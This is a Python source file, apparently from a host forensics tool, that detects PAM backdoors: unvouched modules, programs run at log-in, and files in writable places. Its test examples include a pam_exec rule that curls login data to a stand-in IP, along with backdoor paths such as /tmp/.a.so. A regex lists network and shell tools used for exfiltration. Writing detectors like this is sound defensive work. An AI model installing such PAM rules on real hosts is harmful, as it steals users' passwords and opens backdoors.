# ruff: noqa: S108 — paths on the examined host, not ours.
"""PAM modules that nothing vouches for, and what modules are told to run or read."""

import re
from collections.abc import Iterable, Iterator

from hemostat.detect.check import Files, HostContext, check, fires, quiet
from hemostat.detect.concern import concern, is_unowned
from hemostat.detect.pam_stack import module_name
from hemostat.detect.places import is_odd, is_writable_for_all
from hemostat.detect.provenance import VOUCHED
from hemostat.model.finding import Claim, Observable, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath, name, parent
from hemostat.model.records import FileFact, PamRule, Provenance
from hemostat.model.text import Text

MODULE = RuleTexts(
    title=Text(en="A PAM module that nothing vouches for", zh="来源不明的 PAM 模块"),
    summary=Text(
        en="{service} loads {module} ({state}), named in {rule_path} line {line}: it sees every "
        "password and may let anyone in.",
        zh="{service} 加载模块 {module}（{state}），见 {rule_path} 第 {line} 行；"
        "该模块可获取全部口令并放行任何人。",
    ),
    benign=Text(
        en="Products for second factors and directories install modules by hand; the name then "
        "tells the product, and the same file is on your other hosts.",
        zh="双因素、目录类产品会手工安装模块；名称可对应到产品，且其他主机上文件一致。",
    ),
)

PROGRAM = RuleTexts(
    title=Text(en="PAM runs a program at each log-in", zh="PAM 在每次登录时运行程序"),
    summary=Text(
        en="{service} runs {program}: {module} {arguments} in {rule_path} line {line}. With "
        "expose_authtok it is handed the password.",
        zh="{service} 会运行 {program}：{rule_path} 第 {line} 行 {module} {arguments}。"
        "带 expose_authtok 时可获取明文口令。",
    ),
    benign=Text(
        en="Notices of log-ins and home-grown second factors work so; the script is then known to "
        "your team and is not handed the password.",
        zh="登录通知、自研双因素常用此法；团队应知情，且脚本不应获取口令。",
    ),
)

FILE = RuleTexts(
    title=Text(en="A PAM module uses a file in an odd place", zh="PAM 模块使用异常位置的文件"),
    summary=Text(
        en="{module} is told to use {program}, says {rule_path} line {line}: anyone may write "
        "there.",
        zh="{module} 使用文件 {program}（{rule_path} 第 {line} 行），该位置任何人可写。",
    ),
    benign=Text(en="Debugging that somebody forgot to switch off.", zh="可能是调试后忘记关闭。"),
)

_KNOWN_NAMES = (
    "pam_duo pam_google_authenticator pam_sss pam_ldap pam_krb5 pam_winbind pam_centrifydc "
    "pam_vas3 pam_lwidentity pam_lsass pam_pbis pam_yubico pam_u2f pam_radius_auth pam_radius "
    "pam_tacplus pam_okta pam_aad pam_himmelblau pam_oslogin_login pam_oslogin_admin pam_securid "
    "pam_mysql pam_pgsql pam_ssh_agent_auth pam_rublon pam_authd pam_fprintd pam_howdy pam_python "
    "pam_script pam_oath pam_cap pam_mount pam_ecryptfs pam_gnome_keyring pam_kwallet5 pam_ccreds "
    "pam_passwdqc pam_saml pam_cyberark pam_beyondtrust pam_thycotic pam_hulk pam_linotp "
    "pam_jc_account_lock pam_privacyidea"
)
_KNOWN = frozenset(_KNOWN_NAMES.split())
_RUNNERS = frozenset({"pam_exec", "pam_python", "pam_script", "pam_lua"})
_INTERPRETER = re.compile(r"(?:ba|da|z|k|a)?sh|env|python[0-9.]*|perl|ruby|node|php[0-9.]*")
# No notice needs more than a program of its own.
_REACHES_OUT = re.compile(r"\b(?:curl|wget|nc|ncat|socat|base64)\b|/dev/tcp|(?:https?|ftp)://")
_ENTRANCES = frozenset(
    {"common-auth", "system-auth", "password-auth", "sshd", "su", "sudo", "login", "base-auth"}
)
_BUILT = ("/usr/local/", "/opt/")
_FILE_KEYS = frozenset(
    {"", "file", "db", "script", "envfile", "conffile", "config", "conf", "log", "path", "dir"}
)
_TMP = HostPath("/tmp/.a.so")
_LIBRARY = HostPath("/usr/lib/x86_64-linux-gnu/security/pam_audit.so")


def _rule(control: str, module: str, *arguments: str) -> PamRule:
    return PamRule(service="sshd", type="auth", control=control, module=module, arguments=arguments)


@check(
    "linux.pam.module-nothing-vouches-for",
    level=Level.MEDIUM,
    confidence=Level.MEDIUM,
    category="pam_module",
    attack="T1556.003",
    incident_types=("backdoor", "rootkit", "credential_leak"),
    texts=MODULE,
    next=(
        "keep-evidence",
        "quarantine-file",
        "restore-package",
        "rotate-credentials",
        "find-entry",
    ),
    by_hand="ls -la {module}; grep -rn {name} /etc/pam.d",
    examples=(
        fires(_rule("required", _TMP)),
        fires(
            _rule("sufficient", "pam_audit.so"),
            FileFact(path=_LIBRARY, state=Provenance.UNOWNED, mode=0o644),
        ),
        fires(
            _rule("required", "pam_unix.so"),
            FileFact(
                path=HostPath("/lib/security/pam_unix.so"), state=Provenance.CHANGED, mode=0o644
            ),
        ),
        quiet(_rule("required", "pam_unix.so")),
        quiet(
            _rule("required", "pam_unix.so"),
            FileFact(
                path=HostPath("/lib/security/pam_unix.so"), state=Provenance.PACKAGED, mode=0o644
            ),
        ),
        quiet(
            _rule("sufficient", "pam_audit.so"),
            FileFact(path=_LIBRARY, state=Provenance.UNOWNED, mode=0o644),
            context=HostContext(has_package_database=False),
        ),
    ),
)
def module_nothing_vouches_for(
    rules: Iterable[PamRule], files: Files, context: HostContext
) -> Iterator[Claim]:
    """A stack loads a module from an odd place, a changed one, or one that no package owns.

    A module sees every password: one that only stands in account and session lines, and that
    nobody is let in by, is low. Changed, in a place of scraps, or the first one asked whose yes
    is enough: high. Names of known products
    that are installed by hand: low.
    """
    modules = [fact for fact in files if name(parent(fact.path)) == "security"]
    seen: set[str] = set()
    rules = tuple(rules)
    asked = {module_name(rule) for rule in rules if rule.type.lstrip("-") in ("auth", "password")}
    for rule in rules:
        if rule.type == "include" or rule.control in ("include", "substack"):
            continue
        for place, fact in _candidates(rule, modules, files):
            level = _module_level(place, fact, files, context)
            if level is None or place in seen:
                continue
            seen.add(place)
            if level is Level.MEDIUM and fact and _only_refuses(rule, fact, asked):
                level = Level.LOW
            if level is Level.MEDIUM and fact and _lets_in_first(rule, rules, place):
                level = Level.HIGH
            yield _claim(
                rule,
                place,
                level,
                because=(rule, fact) if fact else (rule,),
                values={
                    "module": place,
                    "name": module_name(rule),
                    "state": str(fact.state) if fact else "-",
                },
            )


def _only_refuses(rule: PamRule, fact: FileFact, asked: set[str]) -> bool:
    """Whether an unowned module is never asked for a password, and cannot let anybody in alone.

    Schedulers and the like build such modules from source: they refuse accounts, or do something
    for a session. One that others may write is another matter.
    """
    is_plain = rule.control != "sufficient" and not fact.is_writable_by_others
    return module_name(rule) not in asked and is_plain and fact.state is Provenance.UNOWNED


def _lets_in_first(rule: PamRule, rules: tuple[PamRule, ...], place: str) -> bool:
    """Whether a module in a folder of packages is asked before all others, and its yes is enough.

    Nothing that stands behind it is asked then, and no name of a product explains it.
    """
    if rule.control != "sufficient" or rule.type != "auth" or place.startswith(_BUILT):
        return False
    same = (each for each in rules if each.source.path == rule.source.path and each.type == "auth")
    return rule.service in _ENTRANCES and next(same, rule) is rule


def _candidates(
    rule: PamRule, modules: list[FileFact], files: Files
) -> Iterator[tuple[str, FileFact | None]]:
    """The files a module's name may mean: itself, or those in the security folders."""
    if "/" in rule.module:
        yield rule.module, files.get(rule.module)
        return
    wanted = rule.module if rule.module.endswith(".so") else f"{rule.module}.so"
    # /lib and /usr/lib are one folder on most hosts: the resolved path names the file once.
    yield from (
        (fact.real_path or fact.path, fact) for fact in modules if name(fact.path) == wanted
    )


def _module_level(
    place: str, fact: FileFact | None, files: Files, context: HostContext
) -> Level | None:
    is_relative = not place.startswith("/")
    if is_relative and ".." in place.split("/"):
        return Level.HIGH
    if fact is None:
        # Named by a path outside the folders for modules, and nobody knows the file.
        is_usual = name(parent(place)) == "security" or is_relative
        return Level.HIGH if is_odd(place) else (None if is_usual else Level.LOW)
    level = concern(place, files, context)
    is_known = name(place).removesuffix(".so") in _KNOWN
    if is_unowned(fact, context) and level is not None and level < Level.HIGH:
        return Level.LOW if is_known else Level.MEDIUM
    return level


@check(
    "linux.pam.runs-a-program",
    level=Level.MEDIUM,
    confidence=Level.MEDIUM,
    category="pam_exec",
    attack="T1556.003",
    incident_types=("backdoor", "credential_leak"),
    texts=PROGRAM,
    next=("keep-evidence", "quarantine-file", "ask-owner", "rotate-credentials", "find-entry"),
    by_hand="sed -n {line}p {rule_path}; ls -la {program}",
    examples=(
        fires(_rule("optional", "pam_exec.so", "quiet", "expose_authtok", "/usr/lib/x")),
        fires(_rule("optional", "pam_exec.so", "/dev/shm/n.sh")),
        fires(_rule("sufficient", "pam_exec.so", "/usr/local/bin/check")),
        fires(_rule("optional", "/usr/lib64/security/pam_exec.so", "expose_authtok", "/opt/p")),
        fires(_rule("optional", "/lib/security/pam_exec.so", "/usr/lib/.x/log.sh")),
        fires(_rule("optional", "pam_exec.so", "/bin/sh", "-c", "curl http://198.51.100.7/?u=$A")),
        quiet(_rule("optional", "pam_script.so", "onerr=success")),
        quiet(_rule("required", "pam_unix.so")),
        quiet(
            _rule("optional", "pam_exec.so", "expose_authtok", "/usr/libexec/unlock"),
            FileFact(path=HostPath("/usr/libexec/unlock"), state=Provenance.PACKAGED, mode=0o755),
        ),
        quiet(
            PamRule(
                service="sshd",
                type="session",
                control="optional",
                module="pam_exec.so",
                arguments=("seteuid", "/usr/sbin/log-notify"),
            ),
            FileFact(path=HostPath("/usr/sbin/log-notify"), state=Provenance.PACKAGED, mode=0o755),
        ),
    ),
)
def runs_a_program(rules: Iterable[PamRule], files: Files, context: HostContext) -> Iterator[Claim]:
    """A stack runs a program that nothing vouches for, perhaps with the password on its input.

    `expose_authtok` hands over the password in clear: high unless a package owns the program.
    What reaches out, is handed to a shell as text, or lies in an odd place: high. A program that
    alone decides who enters: medium at least. A notice at session start in
    /usr/local or /opt is ordinary: low.
    """
    for rule in rules:
        if module_name(rule) not in _RUNNERS:
            continue
        program = _program(rule)
        if not program:
            continue
        fact = files.get(program)
        level = _program_level(rule, program, files, context)
        if level is None:
            continue
        yield _claim(
            rule,
            program,
            level,
            because=(rule, fact) if fact else (rule,),
            values={
                "program": program,
                "module": rule.module,
                "arguments": " ".join(rule.arguments),
            },
        )


def _program(rule: PamRule) -> str:
    """The first absolute path among the arguments that is no interpreter and no option's value."""
    paths = [word for word in rule.arguments if word.startswith("/")]
    own = [word for word in paths if not _INTERPRETER.fullmatch(name(word))]
    return (own or paths or [""])[0]


def _gets_password(rule: PamRule) -> bool:
    is_asked = "expose_authtok" in rule.arguments
    return is_asked and rule.type in ("auth", "password")


def _is_suspect(word: str) -> bool:
    is_odd_path = word.startswith("/") and is_odd(word)
    return word == "-c" or is_odd_path or bool(_REACHES_OUT.search(word))


def _program_level(rule: PamRule, program: str, files: Files, context: HostContext) -> Level | None:
    if any(_is_suspect(word) for word in rule.arguments):
        return Level.HIGH
    fact = files.get(program)
    level = concern(program, files, context)
    is_vouched = fact is not None and fact.state in VOUCHED
    if level is Level.HIGH or (is_vouched and level is None):
        return level
    if _gets_password(rule):
        return Level.HIGH
    decides = rule.type == "auth" and rule.control in ("sufficient", "required", "requisite")
    if decides and rule.control == "sufficient":
        return max(Level.MEDIUM, level or Level.LOW)
    return level or Level.LOW


@check(
    "linux.pam.file-in-odd-place",
    level=Level.MEDIUM,
    confidence=Level.MEDIUM,
    category="pam_file",
    attack="T1556.003",
    incident_types=("backdoor", "credential_leak"),
    texts=FILE,
    next=("keep-evidence", "ask-owner", "restore-package"),
    by_hand="sed -n {line}p {rule_path}; ls -la {program}",
    examples=(
        fires(_rule("sufficient", "pam_userdb.so", "db=/tmp/users")),
        fires(_rule("required", "pam_env.so", "envfile=/dev/shm/e")),
        quiet(_rule("optional", "pam_krb5.so", "ccache=FILE:/tmp/krb5cc_%u")),
        quiet(_rule("required", "pam_env.so", "envfile=/etc/default/locale")),
    ),
)
def file_in_odd_place(rules: Iterable[PamRule]) -> Iterator[Claim]:
    """A module reads who may enter, or writes what it hears, where anyone may write."""
    for rule in rules:
        for word in rule.arguments:
            key, equals, value = word.partition("=")
            value = value if equals else word
            if (key if equals else "") not in _FILE_KEYS or not value.startswith("/"):
                continue
            # The program of pam_exec has a check of its own.
            if is_writable_for_all(value) and not (module_name(rule) in _RUNNERS and not equals):
                yield _claim(
                    rule,
                    value,
                    None,
                    because=(rule,),
                    values={"module": rule.module, "program": value},
                )


def _claim(
    rule: PamRule,
    place: str,
    level: Level | None,
    *,
    because: tuple[object, ...],
    values: dict[str, str],
) -> Claim:
    stack = rule.source.path or HostPath("/etc/pam.d/sshd")
    return Claim(
        subjects=(Subject("file", place), Subject("file", stack)),
        because=because,
        values={
            "service": rule.service,
            "rule_path": stack,
            "line": str(rule.source.line or 1),
            **values,
        },
        level=level,
        observables=(Observable("file", place),),
    )
